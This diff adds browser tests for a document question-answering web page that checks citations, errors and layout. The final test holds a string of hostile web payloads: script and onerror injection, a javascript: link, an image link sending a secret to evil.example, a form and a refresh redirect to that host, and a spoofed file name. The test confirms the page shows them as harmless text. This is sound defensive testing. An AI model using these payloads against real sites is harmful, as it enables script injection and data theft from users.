@@ -1,0 +1,302 @@
+"""The page as a person meets it: a real browser on the served page, over an assistant that says what it is told."""
+
+import re
+from dataclasses import replace
+
+import pytest
+from fpdf import FPDF
+from playwright.sync_api import expect
+
+from index.errors import ModelUnavailable, QuestionError
+from index.passage import Document, Heading
+from index.read import read_file
+from index.sync import Unreadable
+from rag.answer import NOT_SAID
+from tests.browser import PHONE, launched, serving, visiting
+from tests.fake_assistant import FakeAssistant, FakeLibrary, cite, near
+
+REFUND = "Refunds are paid within 14 days of the return."
+DESK = "The support desk is open from nine to five on working days."
+FILLER = "\n\n".join(
+    f"Section {n}. " + "The works council is heard before anything is decided. " * 6 for n in range(20)
+)
+HANDBOOK = Document(
+    "handbook.md",
+    "Employee handbook",
+    f"Employee handbook\n\nWelcome to the company.\n\n{FILLER}\n\n{REFUND} {DESK}\n\n{FILLER}",
+    headings=(Heading(0, 1, "Employee handbook"),),
+)
+DECIDED = "The committee met in Geneva and decided nothing."
+TOO_LONG = "a question may have 4,000 characters; this one has 5,000"
+
+
+def report_in(folder) -> Document:
+    """Write a PDF of three pages and read it as the index does."""
+    pdf = FPDF()
+    for number in (1, 2, 3):
+        pdf.add_page()
+        pdf.set_font("helvetica", size=14)
+        pdf.multi_cell(
+            0, 9, f"Part {number}. {DECIDED if number == 2 else 'Nothing to report.'} " + "Filling words. " * 40
+        )
+    pdf.output(str(folder / "report.pdf"))
+    document, _ = read_file(folder / "report.pdf", "report.pdf")
+    return replace(document, title="Report", notices=("page 3 of 3 holds no text",))
+
+
+@pytest.fixture(scope="module")
+def assistant(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("library")
+    report = report_in(folder)
+    library = FakeLibrary([HANDBOOK, report], folder, unreadable=[Unreadable("scan.pdf", "it holds no text")])
+    replies = {
+        "How long?": (f"{REFUND} [1] {DECIDED} [2]", (cite(1, HANDBOOK, REFUND), cite(2, report, DECIDED))),
+        "And the desk?": (f"{DESK} [1]", (cite(1, HANDBOOK, DESK),)),
+        "Slow?": ("word " * 400 + "[1]", (cite(1, HANDBOOK, REFUND),)),
+        "Too long?": QuestionError(TOO_LONG),
+        "No model?": ModelUnavailable("the embedding model cannot be loaded; run `make install` again"),
+        "Bug?": ZeroDivisionError("a bug"),
+    }
+    nearest = [near(HANDBOOK, DESK), near(report, DECIDED)]
+    standalone = {"And the desk?": "When is the support desk open?"}
+    return FakeAssistant(library, replies, nearest=nearest, standalone=standalone, pause=0.01)
+
+
+@pytest.fixture(scope="module")
+def address(assistant):
+    with serving(assistant) as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def browser(chromium):
+    with launched(chromium) as browser:
+        yield browser
+
+
+@pytest.fixture
+def visit(browser, address):
+    with visiting(browser, address) as visit:
+        yield visit
+
+
+@pytest.fixture
+def phone(browser, address):
+    with visiting(browser, address, viewport=PHONE, has_touch=True, is_mobile=True) as visit:
+        yield visit
+
+
+def test_the_empty_page_says_what_it_is_and_offers_questions(visit):
+    expect(visit.page).to_have_title("Footnote")
+    expect(visit.page.locator("h1")).to_have_count(1)
+    expect(visit.page.get_by_role("button", name="How long?")).to_be_visible()
+    visit.page.get_by_role("button", name="How long?").click()
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text(DECIDED)
+
+
+def test_documents_are_listed_with_what_is_missing(visit):
+    documents = visit.page.locator("#documents")
+    expect(documents).to_contain_text("2 documents")
+    expect(documents).to_contain_text("page 3 of 3 holds no text")
+    expect(documents).to_contain_text("it holds no text")
+    documents.get_by_role("link", name="Employee handbook").click()
+    expect(visit.page.locator("#source h2")).to_have_text("Employee handbook")
+
+
+def test_a_citation_opens_its_sentence_in_the_document(visit):
+    visit.ask("How long?")
+    expect(visit.chip(1)).to_have_attribute("title", "handbook.md")
+    visit.chip(1).click()
+    mark = visit.page.locator("#source mark")
+    expect(mark).to_have_text(REFUND)
+    expect(mark).to_be_in_viewport()
+    expect(mark).to_be_focused()
+    visit.page.keyboard.press("Escape")
+    expect(visit.page.locator("#source section")).to_have_count(0)
+    expect(visit.chip(1)).to_be_focused()
+
+
+def test_a_citation_of_a_pdf_opens_the_picture_of_its_page(visit):
+    visit.ask("How long?")
+    expect(visit.chip(2)).to_have_attribute("title", "report.pdf, page 2")
+    visit.chip(2).click()
+    expect(visit.page.get_by_role("img", name="Page 2 of report.pdf")).to_be_visible()
+    expect(visit.page.locator(".sheet mark")).to_have_count(1)
+    visit.page.get_by_role("link", name="Next page").click()
+    expect(visit.page.get_by_role("img", name="Page 3 of report.pdf")).to_be_visible()
+    visit.page.get_by_role("button", name="Close the source").click()
+    expect(visit.page.locator("#source section")).to_have_count(0)
+
+
+def test_the_sources_are_listed_under_the_answer(visit):
+    visit.ask("How long?")
+    assert "Stated in 2 documents" in visit.answer
+    visit.page.get_by_role("link", name="Report, page 2").click()
+    expect(visit.page.locator("#source h2")).to_have_text("Report")
+
+
+def test_when_the_documents_do_not_say_the_nearest_passages_can_be_opened(visit):
+    visit.ask("Who chairs the council?")
+    assert NOT_SAID in visit.answer
+    assert "Not in the documents; nearest passages:" in visit.answer
+    visit.page.locator("#chat").get_by_role("link", name="Employee handbook").click()
+    expect(visit.page.locator("#source mark")).to_have_text(DESK)
+
+
+def test_a_follow_up_says_what_was_searched_for_and_carries_the_history(visit, assistant):
+    visit.ask("How long?")
+    visit.ask("And the desk?")
+    assert "Searched for: When is the support desk open?" in visit.answer
+    assert "One source" in visit.answer
+    assert [turn.content for turn in assistant.asked[-1][1]] == ["How long?", f"{REFUND} [1] {DECIDED} [2]"]
+
+
+def test_an_empty_question_is_refused_gently(visit):
+    visit.page.get_by_role("button", name="Ask", exact=True).click()
+    expect(visit.page.get_by_text("Type a question first.")).to_be_visible()
+    expect(visit.page.locator("#chat .user-row")).to_have_count(0)
+
+
+@pytest.mark.parametrize(
+    ("question", "said"),
+    [
+        ("Too long?", "Not answered: A question may have 4,000 characters; this one has 5,000."),
+        ("No model?", "Not answered: The embedding model cannot be loaded; run `make install` again."),
+    ],
+)
+def test_a_known_failure_is_one_sentence_in_the_chat(visit, question, said):
+    visit.ask(question)
+    assert visit.answer.strip() == said
+    visit.ask("How long?")
+    assert REFUND in visit.answer
+
+
+def test_an_unforeseen_failure_leaves_the_page_usable(visit):
+    visit.ask("Bug?")
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text("Something went wrong while answering")
+    visit.ask("How long?")
+    assert REFUND in visit.answer
+
+
+def test_a_stopped_answer_keeps_what_was_said_and_frees_the_page(visit):
+    visit.page.get_by_label("Question").fill("Slow?")
+    visit.page.keyboard.press("Enter")
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text("word word")
+    visit.page.get_by_role("button", name="Stop").click()
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text("Stopped before the answer was complete.")
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text("word word")
+    visit.ask("How long?")
+    assert REFUND in visit.answer
+
+
+def test_retry_asks_the_same_again(visit, assistant):
+    visit.ask("How long?")
+    assistant.asked.clear()
+    with visit.page.expect_response(re.compile("queue/data")) as answered:
+        visit.page.get_by_role("button", name="Retry").click()
+    answered.value.finished()
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text(REFUND)
+    assert [asked[:2] for asked in assistant.asked] == [("How long?", ())]
+
+
+def test_an_edited_question_replaces_what_came_after_it(visit):
+    visit.ask("How long?")
+    visit.ask("Too long?")
+    visit.page.locator("#chat .user-row").first.hover()
+    visit.page.get_by_role("button", name="Edit").first.click()
+    visit.page.locator("#chat textarea").fill("And the desk?")
+    visit.page.get_by_role("button", name="Submit").click()
+    expect(visit.page.locator("#chat .bot-row")).to_have_count(1)
+    expect(visit.page.locator("#chat .bot-row")).to_contain_text(DESK)
+
+
+def test_undo_puts_the_question_back_into_the_box(visit):
+    visit.ask("How long?")
+    visit.page.get_by_role("button", name="Undo").click()
+    expect(visit.page.get_by_label("Question")).to_have_value("How long?")
+    expect(visit.page.locator("#chat .user-row")).to_have_count(0)
+
+
+def test_a_new_conversation_forgets_the_old(visit, assistant):
+    visit.ask("How long?")
+    visit.page.get_by_role("button", name="New conversation").click()
+    expect(visit.page.get_by_role("button", name="How long?")).to_be_visible()
+    visit.ask("And the desk?")
+    assert assistant.asked[-1][1] == ()
+
+
+def test_two_people_do_not_see_each_other(browser, address, visit):
+    visit.ask("How long?")
+    with visiting(browser, address) as other:
+        expect(other.page.locator("#chat .user-row")).to_have_count(0)
+
+
+def test_an_answer_is_copied_with_its_sources(browser, address):
+    with visiting(browser, address, permissions=["clipboard-read", "clipboard-write"]) as visit:
+        visit.ask("How long?")
+        visit.page.locator("#chat").get_by_role("button", name="Copy message").last.click()
+        copied = visit.page.evaluate("navigator.clipboard.readText()")
+        assert copied.startswith(f"{REFUND} [1]")
+        assert re.search(r'^\[2\]: #cite-\S+ "report.pdf, page 2"$', copied, re.MULTILINE)
+
+
+def test_a_phone_shows_one_thing_at_a_time_and_never_scrolls_sideways(phone):
+    page = phone.page
+    wide = "document.documentElement.scrollWidth > innerWidth"
+    expect(page.locator("#side")).not_to_be_visible()
+    phone.ask("How long?")
+    assert page.evaluate(wide) is False
+    phone.chip(1).tap()
+    expect(page.locator("#source mark")).to_be_in_viewport()
+    assert page.locator("#source").bounding_box()["y"] > 100
+    assert page.evaluate(wide) is False
+    page.get_by_role("button", name="Close the source").tap()
+    page.get_by_role("button", name="Documents").tap()
+    expect(page.locator("#documents")).to_contain_text("Employee handbook")
+    assert page.evaluate(wide) is False
+    page.get_by_role("link", name="Employee handbook handbook.md").tap()
+    expect(page.locator("#side")).not_to_be_visible()
+    expect(page.locator("#source h2")).to_have_text("Employee handbook")
+
+
+@pytest.mark.parametrize(("scheme", "paper"), [("light", "rgb(253, 252, 250)"), ("dark", "rgb(23, 25, 28)")])
+def test_the_page_follows_the_system_in_light_and_dark(browser, address, scheme, paper):
+    with visiting(browser, address, color_scheme=scheme) as visit:
+        expect(visit.page.locator("body")).to_have_css("background-color", paper)
+
+
+def test_an_empty_library_explains_itself(browser, tmp_path):
+    with serving(FakeAssistant(FakeLibrary([], tmp_path), {})) as address, visiting(browser, address) as visit:
+        expect(visit.page.locator("#chat")).to_contain_text("There is nothing to ask yet")
+        expect(visit.page.locator("#chat")).to_contain_text(tmp_path.name)
+
+
+BAIT = (
+    '<img src=x onerror="window.PWNED=1"> ${window.PWNED=2} {{value}} <script>window.PWNED=3</script> '
+    "![x](http://evil.example/?q=secret) [x](javascript:window.PWNED=4) "
+    "<form action=http://evil.example><input></form> "
+    '<div style="position:fixed;inset:0;background:red">overlay</div> http://evil.example www.evil.example '
+    "<meta http-equiv=refresh content=0;url=http://evil.example> \u202egnp.exe `code` **bold** # h $$x$$ C:\\users"
+)
+
+
+def test_a_hostile_document_is_shown_as_text_and_runs_nothing(browser, tmp_path):
+    name = BAIT.replace("/", "∕") + ".txt"
+    document = Document(name, BAIT, f"{BAIT}\n\n{BAIT} It is so.", headings=(Heading(0, 1, BAIT),), notices=(BAIT,))
+    library = FakeLibrary([document], tmp_path, unreadable=[Unreadable(BAIT, BAIT)])
+    cited = (f"{BAIT} It is so. [1]", (cite(1, document, f"{BAIT} It is so."),))
+    assistant = FakeAssistant(library, {BAIT: cited}, nearest=[near(document, BAIT)], standalone={"Why?": BAIT})
+    with serving(assistant) as address, visiting(browser, address) as visit:
+        page = visit.page
+        page.locator("#chat .example").first.click()
+        expect(page.locator("#chat .bot-row")).to_contain_text("<img src=x onerror=")
+        visit.ask("Why?")
+        page.locator("#chat .bot-row").first.locator("p a[href*='#cite-']").last.click()
+        expect(page.locator("#source mark")).to_contain_text("<img src=x onerror=")
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.PWNED") is None
+        assert page.locator("#app :is(form, script, iframe, meta, img, input)").count() == 0
+        assert page.locator("#app a:not([href^='#cite-'])").count() == 0
+        assert page.locator("#app h1").count() == 1
+        assert page.url.startswith(address)
+        assert "\u202e" not in page.locator("#app").inner_text()
